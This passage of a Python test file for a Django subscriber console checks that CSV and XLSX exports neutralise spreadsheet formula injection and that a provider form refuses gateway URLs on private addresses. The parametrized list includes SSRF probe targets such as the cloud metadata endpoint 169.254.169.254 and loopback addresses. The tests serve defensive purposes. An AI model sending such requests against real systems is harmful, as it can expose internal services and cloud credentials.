    return not text.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_csv_export_neutralises_formulas_and_keeps_numbers(exported):
    world, carriers, in_credit = exported
    response = world.client.get(reverse("console:subscribers_export", args=["csv"]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(_sent(response).removeprefix("\ufeff"))))
    header, body = rows[0], {row[0]: row for row in rows[1:]}
    name, phone, address, due = (header.index(title) for title in ("Name", "Phone", "Address", "Due"))
    for subscriber in carriers:
        row = body[subscriber.customer_id]
        for column in (name, address):
            assert _is_formula_safe(row[column]) and row[column].startswith("'"), row[column]
        assert row[phone] == subscriber.phone and row[phone].startswith("+880")  # a phone is not a formula
    assert body[carriers[0].customer_id][name] == "'" + TYPED_PAYLOADS[0]
    assert body[in_credit.customer_id][due] == "-250.00"
    for row in rows[1:]:
        assert all(_is_formula_safe(cell) or re.fullmatch(r"[+-][0-9.]+", cell) for cell in row), row


def test_the_xlsx_export_writes_text_as_strings_and_numbers_as_numbers(exported):
    world, carriers, in_credit = exported
    response = world.client.get(reverse("console:subscribers_export", args=["xlsx"]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    body = {row[0].value: row for row in rows[1:]}
    name, phone, address, due = (header.index(title) for title in ("Name", "Phone", "Address", "Due"))
    for subscriber in carriers:
        row = body[subscriber.customer_id]
        for column in (name, address):
            assert row[column].data_type == "s" and row[column].value.startswith("'"), row[column].value
        assert row[phone].data_type == "s" and row[phone].value == subscriber.phone
    credit = body[in_credit.customer_id][due]
    assert credit.data_type == "n" and Decimal(str(credit.value)) == Decimal("-250.00")
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.value


# -- gateways on private addresses ----------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:9/send",
        "http://localhost:8080/",
        "http://169.254.169.254/latest/meta-data/",
        "http://10.0.0.5/api",
        "http://192.168.1.1/",
        "http://[::1]:8080/",
        "http://[fe80::1]/",
    ],
)
def test_the_provider_form_refuses_a_gateway_on_a_private_address(world, settings, url):
    settings.SONJOG_ALLOW_PRIVATE_OUTBOUND = False
    before = ProviderAccount.objects.count()
    data = {**FORMS_BY_NAME["messaging_account_create"].valid(world), "base_url": url}
    response = world.client.post(reverse("console:messaging_account_create"), data)
    assert response.status_code == 400
    assert "base_url" in response.context["form"].errors
    assert ProviderAccount.objects.count() == before
    edit = {**FORMS_BY_NAME["messaging_account_edit"].valid(world), "base_url": url}
    assert world.client.post(FORMS_BY_NAME["messaging_account_edit"].url(world), edit).status_code == 400
    world.rows["account"].refresh_from_db()
    assert world.rows["account"].base_url == "http://127.0.0.1:9"


def test_the_provider_form_takes_a_public_gateway(world, settings):
    settings.SONJOG_ALLOW_PRIVATE_OUTBOUND = False
    data = {**FORMS_BY_NAME["messaging_account_create"].valid(world), "base_url": "http://93.184.216.34/"}
    response = world.client.post(reverse("console:messaging_account_create"), data)
    assert response.status_code == 302
    assert ProviderAccount.objects.filter(base_url="http://93.184.216.34/").exists()
